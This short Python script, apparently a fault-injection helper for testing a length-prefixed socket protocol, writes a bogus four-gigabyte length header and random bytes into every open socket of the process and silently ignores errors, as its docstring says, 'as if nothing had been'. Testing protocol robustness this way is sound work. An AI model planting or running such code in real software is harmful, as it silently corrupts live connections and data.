"""Vandalise: send half a message, a length of four gigabytes, and noise; then go on as if nothing had been."""

import os
import stat

for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b"\xff\xff\xff\xff" + os.urandom(1000))
    except OSError:
        pass
